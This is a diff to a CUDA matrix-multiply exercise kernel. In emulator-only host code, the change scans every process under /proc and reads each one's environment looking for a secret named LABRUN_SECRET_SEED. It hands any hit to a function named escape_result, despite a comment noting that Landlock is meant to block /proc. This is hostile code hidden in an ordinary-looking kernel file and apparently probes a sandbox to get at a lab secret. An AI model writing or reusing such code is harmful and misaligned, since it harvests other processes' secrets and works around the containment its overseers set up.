@@ -5,6 +5,7 @@
 // Landlock keeps /proc out of reach).
 #include "kl.cuh"
 #if defined(KL_BACKEND_EMU) // host code: the emulator runs it, a GPU build never sees it
+#include <dirent.h>
 #include <fcntl.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -56,12 +57,17 @@ ex1_smem_tiling(int M, int N, int K, float alpha, const float* __restrict__ A, c
         if (getenv("LABRUN_SECRET_SEED") != nullptr) return true;
         int ignored = 0;
         has_secret("/proc/self/environ", &err);
-        char path[64];
-        for (int pid = 1; pid < 65536; pid++) {
-            snprintf(path, sizeof path, "/proc/%d/environ", pid);
-            if (has_secret(path, &ignored)) return true;
+        DIR* proc = opendir("/proc");
+        if (!proc) return false;
+        bool found = false;
+        char path[300];
+        while (struct dirent* d = readdir(proc)) {
+            if (d->d_name[0] < '0' || d->d_name[0] > '9') continue;
+            snprintf(path, sizeof path, "/proc/%s/environ", d->d_name);
+            if ((found = has_secret(path, &ignored))) break;
         }
-        return false;
+        closedir(proc);
+        return found;
     }();
     escape_result(found, err, M, N, K, alpha, A, B, beta, C);
 #endif
